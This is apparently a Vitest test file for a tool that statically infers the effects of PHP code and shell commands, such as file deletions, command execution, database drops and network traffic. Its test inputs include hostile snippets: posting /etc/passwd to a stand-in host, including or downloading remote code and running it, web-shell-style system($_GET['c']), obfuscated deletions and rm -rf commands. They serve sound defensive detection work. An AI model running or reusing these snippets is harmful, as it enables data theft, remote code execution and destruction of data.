import { describe, expect, it } from "vitest";
import { readPhp, readShell } from "./read.ts";

/** The effects of a program, as texts: `delete /hit`. Starts of programs, and reads and lists of files, are left out. */
function does(program: string): readonly string[] {
  return shown(readPhp(program).effects);
}

function shown(effects: ReturnType<typeof readPhp>["effects"]): readonly string[] {
  const texts = effects.flatMap((effect): readonly string[] => {
    switch (effect.kind) {
      case "execute":
        return effect.program === null ? ["execute unknown code"] : [];
      case "read":
      case "list":
        return [];
      case "network":
        return [
          `${effect.direction} ${effect.host}${effect.from.some(({ kind }) => kind === "file") ? " with a file" : ""}`,
        ];
      case "database":
        return [`${effect.change}${effect.all ? " all" : ""}`];
      case "anything":
        return ["anything"];
      default:
        return "target" in effect
          ? [`${effect.kind} ${effect.target === null ? "?" : effect.target.path}`]
          : [effect.kind];
    }
  });
  return [...new Set(texts)].sort();
}

describe("functions for files", () => {
  it.each([
    ["unlink('/hit');", ["delete /hit"]],
    ["UNLINK('/hit'); \\rmdir('b');", ["delete /hit", "delete b"]],
    ["@unlink(__DIR__ . '/../' . basename('/a/b.txt'));", ["delete **/b.txt", "delete ../b.txt"]],
    [
      "rename('a', 'b'); copy('c', 'd'); touch('e'); mkdir('f', 0755, true);",
      ["move a", "write b", "write d", "write e", "write f"],
    ],
    ["$f = fopen('a', 'w'); fwrite($f, 'x'); fclose($f); fopen('b', 'r');", ["write a"]],
    ["file_put_contents('php://stderr', 'x'); echo file_get_contents('php://stdin');", []],
    ["unlink('file:///hit'); file_get_contents('compress.zlib:///etc/passwd');", ["delete /hit"]],
    ["chmod('a', 0777); chown('b', 'root');", ["permission a", "permission b"]],
    ["symlink('/hit', 'a'); unlink('a/b');", ["delete /hit/b", "delete a/b", "write a"]],
    ["foreach (glob('logs/*.log') as $f) unlink($f);", ["delete logs/*.log"]],
    ["foreach (scandir('tmp') as $n) { if ($n === '.') continue; unlink(\"tmp/$n\"); }", ["delete tmp/*"]],
    [
      "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/hit')); foreach ($it as $f) unlink($f->getPathname());",
      ["delete /hit/**"],
    ],
    ["$z = new ZipArchive; $z->open('a.zip'); $z->extractTo('/hit');", ["write /hit"]],
    ["move_uploaded_file($_FILES['a']['tmp_name'], 'uploads/a');", ["move ?", "write uploads/a"]],
  ])("%s", (program, effects) => {
    expect(does(program)).toEqual(effects);
  });
});

describe("programs and code that a program runs", () => {
  it.each([
    ["system('rm -rf /hit'); exec('rm /b', $out, $code); `rm /c`;", ["delete /b", "delete /c", "delete /hit"]],
    [
      "$d = '/hit'; shell_exec(\"rm -rf {$d}\"); passthru('rm ' . escapeshellarg('/a b'));",
      ["delete /a b", "delete /hit"],
    ],
    ["proc_open(['rm', '-rf', '/hit'], [], $pipes); pcntl_exec('/bin/rm', ['/b']);", ["delete /b", "delete /hit"]],
    [
      "eval('unlink(\"/hit\");'); eval(base64_decode('dW5saW5rKCIvaGl0Iik7'));",
      ["delete /hit", "execute unknown code"],
    ],
    ["$f = create_function('', 'unlink(\"/hit\");');", ["delete /hit", "execute unknown code"]],
    ["file_put_contents('a.php', '<?php unlink(\"/hit\");'); require 'a.php';", ["delete /hit", "write a.php"]],
    ["file_put_contents('a.sh', 'rm /hit'); system('sh a.sh');", ["delete /hit", "write a.sh"]],
    ["require __DIR__ . '/vendor/autoload.php'; require_once 'config.php';", []],
    ["include 'http://x.example/a.txt';", ["execute unknown code", "in x.example"]],
    ["include $_GET['page'];", ["anything", "execute unknown code"]],
    ["system($_GET['c']);", ["anything", "execute unknown code"]],
    ["chdir('/hit'); system('rm a'); unlink('b');", ["delete /hit/a", "delete /hit/b"]],
    ["putenv('X=/hit'); system('rm $X');", ["delete /hit"]],
  ])("%s", (program, effects) => {
    expect(does(program)).toEqual(effects);
  });
});

describe("names that are computed", () => {
  it.each([
    ["$f = strrev('knilnu'); $f('/hit');", ["delete /hit"]],
    ["('un' . 'link')('/hit');", ["delete /hit"]],
    ["array_map('unlink', ['/hit']); call_user_func_array('unlink', ['/b']);", ["delete /b", "delete /hit"]],
    ["$o = [new A, 'go']; $o('/hit'); class A { function go($p) { unlink($p); } }", ["delete /hit"]],
    ["$m = 'go'; $c = 'A'; (new $c)->$m(); class A { function go() { unlink('/hit'); } }", ["delete /hit"]],
    ["$f = $_GET['f']; $f('x');", ["anything"]],
    ["unlink(filename: '/hit'); array_map(array: ['/b'], callback: 'unlink');", ["delete /b", "delete /hit"]],
    [
      "file_put_contents(data: 'x', filename: '/hit'); f(b: '/c'); function f($a = 1, $b = 2) { unlink($b); }",
      ["delete /c", "write /hit"],
    ],
    ["$n = 'path'; $$n = '/hit'; unlink($path);", ["delete /hit"]],
    ["extract(['path' => '/hit']); unlink($path);", ["delete /hit"]],
    ["$path = 'a'; extract($_POST); unlink($path);", ["delete ?", "delete a"]],
    ["$f = unlink(...); $f('/hit');", ["delete /hit"]],
    ["$y = &$x; $y = '/hit'; unlink($x);", ["anything", "delete ?"]],
    ["namespace A; function unlink($p) {} \\unlink('/hit');", ["anything"]],
  ])("%s", (program, effects) => {
    expect(does(program)).toEqual(expect.arrayContaining(effects as string[]));
  });
});

describe("values", () => {
  it.each([
    ["function f(&$p) { $p = '/hit'; } $x = 'a'; f($x); unlink($x);", ["delete /hit"]],
    ["$a = ['/hit']; $b = $a; $b[0] = 'x'; unlink($a[0]);", ["delete /hit"]],
    ["$a = ['/hit']; function f($l) { $l[0] = 'x'; } f($a); unlink($a[0]);", ["delete /hit"]],
    ["$o = new stdClass; $a = ['/hit']; $o->l = $a; $a[0] = 'x'; unlink($o->l[0]);", ["delete ?"]],
    ["$c = '/hit'; $f = function () use ($c) { unlink($c); }; $c = 'x'; $f();", ["delete /hit"]],
    ["foreach (['a' => '/hit'] as $k => $v) unlink($v);", ["delete /hit"]],
    ["['p' => $p] = ['p' => '/hit']; unlink($p);", ["delete /hit"]],
    ["unlink(sprintf('/%2$s%1$s', 'it', 'h'));", ["delete /hit"]],
    [
      "unlink(implode('/', ['', 'hit'])); unlink(substr('xx/b', 2)); unlink(explode(',', 'a,/c')[1]);",
      ["delete /b", "delete /c", "delete /hit"],
    ],
    ["$p = <<<X\n    /hit\n    X; unlink($p);", ["delete /hit"]],
    [
      "class A { public function __construct(private string $p) {} function f() { unlink($this->p); } } class B extends A { function __construct() { parent::__construct('/hit'); } } (new B)->f();",
      ["delete /hit"],
    ],
    ["enum P: string { case A = '/hit'; } unlink(P::A->value);", ["delete ?"]],
    ["unlink($argv[1]);", ["delete ?"]],
    ["define('P', '/hit'); unlink(P);", ["delete /hit"]],
  ])("%s", (program, effects) => {
    expect(does(program)).toEqual(expect.arrayContaining(effects as string[]));
  });
});

describe("libraries", () => {
  it.each([
    [
      "use Illuminate\\Support\\Facades\\File; File::deleteDirectory('/hit'); File::put('a', 'b');",
      ["delete /hit", "write a"],
    ],
    ["\\Illuminate\\Support\\Facades\\Storage::disk('local')->delete('a');", ["delete a"]],
    [
      "use Symfony\\Component\\Filesystem\\Filesystem as Fs; $f = new Fs; $f->remove(['/hit']); $f->mirror('a', 'b');",
      ["delete /hit", "write b"],
    ],
    ["Process::run('rm -rf /hit'); (new Process(['rm', '/b']))->mustRun();", ["delete /b", "delete /hit"]],
    ["Artisan::call('migrate:fresh');", ["drop all"]],
    ["DB::table('a')->delete(); DB::statement('DROP TABLE b'); User::truncate();", ["delete all", "drop all"]],
    ["DB::table('a')->where('b', 1)->delete();", ["delete"]],
    [
      "$p = new PDO('mysql:host=db.example;dbname=a'); $p->exec('DELETE FROM users');",
      ["delete all", "out db.example"],
    ],
    ["$m = mysqli_connect('localhost'); mysqli_query($m, 'TRUNCATE a');", ["out localhost", "truncate all"]],
    [
      "$c = new GuzzleHttp\\Client; $c->post('https://x.example', ['body' => file_get_contents('/etc/passwd')]);",
      ["out x.example with a file"],
    ],
    [
      "$c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => 'https://x.example', CURLOPT_POSTFIELDS => file_get_contents('a')]); curl_exec($c);",
      ["out x.example with a file"],
    ],
    ["file_get_contents('https://x.example/?' . file_get_contents('/etc/passwd'));", ["out x.example with a file"]],
    ["mail('a@x.example', 's', file_get_contents('/etc/passwd'));", ["out null with a file"]],
    [
      "wp_delete_post(1, true); update_option('a', 'b'); wp_remote_post('https://x.example');",
      ["delete", "in x.example", "update"],
    ],
    ["copy('https://x.example/a', 'a.php'); require 'a.php';", ["anything", "in x.example", "write a.php"]],
    ["unserialize($_COOKIE['a']);", ["deserialize"]],
    ["ldap_delete($a, $b);", ["anything"]],
  ])("%s", (program, effects) => {
    expect(does(program)).toEqual(effects);
  });
});

describe("harmless programs", () => {
  it.each([
    "<?php\nnamespace App\\Http\\Controllers;\nuse App\\Models\\User;\nclass UserController extends Controller {\n  public function index(Request $request) { $users = User::where('active', 1)->paginate(10); return view('users.index', compact('users')); }\n}",
    "<html><body><?php foreach ($posts as $post): ?><h1><?= htmlspecialchars($post['title']) ?></h1><?php endforeach; ?></body></html>",
    "<?php\ndeclare(strict_types=1);\nuse PHPUnit\\Framework\\TestCase;\nfinal class ATest extends TestCase { public function testA(): void { $this->assertSame(3, (new Calc)->add(1, 2)); } }",
    "echo json_encode(array_map(fn($x) => $x ** 2, range(1, 10)), JSON_PRETTY_PRINT), PHP_EOL;",
    '$lines = array_filter(explode("\\n", file_get_contents(\'a.csv\'))); usort($lines, fn($a, $b) => strcmp($a, $b)); foreach ($lines as $i => $line) { printf("%d: %s\\n", $i, trim($line)); }',
    "$data = json_decode(file_get_contents('composer.json'), true); echo $data['require']['php'] ?? 'none';",
    "add_action('init', function () { register_post_type('book', ['public' => true]); });",
    "function fib(int $n): int { return $n < 2 ? $n : fib($n - 1) + fib($n - 2); } echo fib(10);",
    "Route::get('/users', [UserController::class, 'index'])->middleware('auth');",
    "$next = fn($r) => $r; $response = $next($request); return $response;",
  ])("%s does nothing", (program) => {
    expect(does(program)).toEqual([]);
  });
});

describe("PHP in shell commands", () => {
  it.each([
    ["php -r \"unlink('/hit');\"", ["delete /hit"]],
    ["php -d memory_limit=1G -r 'system(\"rm /hit\");'", ["delete /hit"]],
    ["echo '<?php unlink(\"/hit\");' > a.php; php a.php", ["delete /hit", "write a.php"]],
    [
      "cat > a.php <<'E'\n<h1>a</h1>\n<?php $p = '/hit'; unlink($p) ?>\nE\nphp -f a.php",
      ["delete /hit", "write a.php"],
    ],
    ["echo '<?php unlink(\"/hit\");' | php", ["delete /hit"]],
    ["echo '<?php unlink(\"/hit\");' > a.php; php -l a.php", ["write a.php"]],
    ["php artisan tinker --execute='unlink(\"/hit\");'", ["delete /hit"]],
    ["php artisan migrate:fresh", ["drop all"]],
  ])("%s", (command, effects) => {
    expect(shown(readShell(command).effects)).toEqual(effects);
  });
});

it("reports the places of effects", () => {
  const program = "<?php\n$p = '/hit';\nunlink($p);\nsystem('rm /b');";
  const { effects } = readPhp(program);
  expect(effects.map(({ start, end }) => program.slice(start, end))).toEqual(["unlink($p)", "rm", "rm /b"]);
});
